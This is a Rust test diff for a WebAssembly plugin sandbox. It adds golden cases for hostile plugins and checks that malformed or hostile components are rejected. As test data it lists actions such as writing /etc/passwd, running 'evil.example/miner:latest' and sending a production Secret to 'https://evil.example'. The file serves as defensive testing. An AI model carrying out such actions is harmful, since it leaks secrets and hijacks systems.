@@ -5,10 +5,10 @@ use std::path::Path;
 
 use insta::assert_snapshot;
 
-use crate::{guests, in_folder, masked, project_of};
+use crate::{asking, greeting, guests, in_folder, masked, project_of};
 
 /// One deed a case.
-const DEEDS: [(&str, &str); 14] = [
+const DEEDS: [(&str, &str); 23] = [
     ("behaves", "behave"),
     ("panics", "panic"),
     ("complains and panics", "{complain: [first, last]}"),
@@ -23,6 +23,15 @@ const DEEDS: [(&str, &str); 14] = [
     ("asks for others", "need-others"),
     ("writes where it must not", "{write: /etc/passwd}"),
     ("wants a variable", "{set-env: PATH}"),
+    ("waits", "{sleep: 3600}"),
+    ("answers with too many", "{many: 100000}"),
+    ("asks for too many", "{need-many: 17}"),
+    ("fetches", "{fetch: 'https://192.0.2.1/'}"),
+    ("extends the interface", "{extend: vault}"),
+    ("runs an image", "{run: 'evil.example/miner:latest'}"),
+    ("mounts a Secret", "{mount-secret: production}"),
+    ("hands over a Secret", "{env-secret: production}"),
+    ("sends a Secret", "{send-secret: [production, 'https://evil.example']}"),
 ];
 
 #[test]
@@ -52,7 +61,7 @@ fn each_harm_has_its_words() {
     let said = in_folder(&folder, &["check"]);
     let line = |label: &str| said.stdout.lines().find(|line| line.starts_with(label)).unwrap_or_default();
     let twice = line("  same twice");
-    assert!(twice.starts_with("  same twice  yes: 14 golden cases, "), "{}", said.stdout);
+    assert!(twice.starts_with("  same twice  yes: 23 golden cases, "), "{}", said.stdout);
     assert!(twice.ends_with(" fuel, same bytes"), "{twice}");
     assert!(
         said.stdout.contains(": a plugin has no network; a call of it ends the plugin's call\n"),
@@ -64,7 +73,7 @@ fn each_harm_has_its_words() {
     );
     // nobody wrote what is to come of them
     assert!(
-        line("  cases  ").starts_with("  cases       PROBLEM: 14 of 14 golden cases failed, "),
+        line("  cases  ").starts_with("  cases       PROBLEM: 23 of 23 golden cases failed, "),
         "{}",
         said.stdout
     );
@@ -72,7 +81,7 @@ fn each_harm_has_its_words() {
     let said = in_folder(&folder, &["bench", "--runs", "1"]);
     assert_eq!(
         (said.code, said.stdout.lines().count(), said.stderr.as_str()),
-        (0, 15, ""),
+        (0, 24, ""),
         "{}",
         said.stdout
     );
@@ -88,4 +97,75 @@ fn each_harm_has_its_words() {
     let second = said.stderr.lines().nth(1).unwrap_or_default();
     assert_eq!((said.code, second), (0, words), "{}", said.stderr);
     assert!(said.stdout.contains("kind: ConfigMap\n") && !said.stdout.contains("kind: Plugin\n"));
+}
+
+/// What never comes to a call, each in its own words: `eval` runs nothing of it.
+#[test]
+fn what_is_no_plugin_is_told_before_anything_is_evaluated() {
+    let good = greeting("");
+    let describing = |items: &str| {
+        let describe = "#describe\") (result i32)";
+        assert!(good.contains(describe), "{good}");
+        wat::parse_str(good.replace(describe, &format!("{describe} {items}"))).unwrap()
+    };
+    let of_schema =
+        |schema: &str, settings: &str| wat::parse_str(greeting(&asking(schema, settings))).unwrap();
+    let whole = wat::parse_str(&good).unwrap();
+    let remedy = "describe answers without settings, Task and inputs: try it in a test of yours\n";
+    for (name, bytes, words, ends) in [
+        ("empty", Vec::new(), "the component is empty; ", "build it anew\n"),
+        (
+            "script",
+            b"#!/bin/sh".to_vec(),
+            "this is not a WebAssembly component: it does not begin with a component's header; ",
+            "name the file that the build for wasm32-wasip2 made\n",
+        ),
+        (
+            "module",
+            wat::parse_str("(module)").unwrap(),
+            "this is a core WebAssembly module, not a component; build it for wasm32-wasip2, ",
+            "or make a component of it with `wasm-tools component new`\n",
+        ),
+        ("truncated", whole[..whole.len() / 2].to_vec(), "the component cannot be compiled: ", ""),
+        (
+            "large",
+            [whole.clone(), vec![0; 5 << 20]].concat(),
+            "the component has 52",
+            " bytes, more than the 4194304 of limits class default; make it smaller (release build, size optimisation), or check \
+             it with --class large\n",
+        ),
+        ("worldless", wat::parse_str("(component)").unwrap(), "it exports no plugin", "\n"),
+        (
+            "crashes",
+            describing("unreachable"),
+            "the plugin does not describe itself: the plugin crashed: it aborted; ",
+            remedy,
+        ),
+        (
+            "hangs",
+            describing("(loop $again (br $again))"),
+            "the plugin does not describe itself: the plugin was stopped: it used up its 200000000 units of fuel; ",
+            remedy,
+        ),
+        (
+            "remote-schema",
+            of_schema(r#"{"$ref": "https://evil.example/schema.json"}"#, ""),
+            "the plugin's config-schema is not usable: ",
+            "\"$ref\" at /$ref is not allowed: references and definitions are not; write the schema out\n",
+        ),
+        (
+            "settings",
+            of_schema("{}", "{"),
+            "the plugin's settings-schema is not usable: it is not JSON",
+            "\n",
+        ),
+    ] {
+        let folder = project_of(&format!("hostile-{name}"), &bytes, "");
+        fs::write(folder.join("item.yaml"), "type: Greeting\n").unwrap();
+        let said = in_folder(&folder, &["eval", "-f", "item.yaml"]);
+        let begins = format!("kubeopencode: greeting.wasm: {words}");
+        let ends = format!("{ends}`kubeopencode plugin check` says all that is wrong with it\n");
+        assert!(said.stderr.starts_with(&begins) && said.stderr.ends_with(&ends), "{name}: {}", said.stderr);
+        assert_eq!((said.code, said.stdout.as_str()), (1, ""), "{name}");
+    }
 }
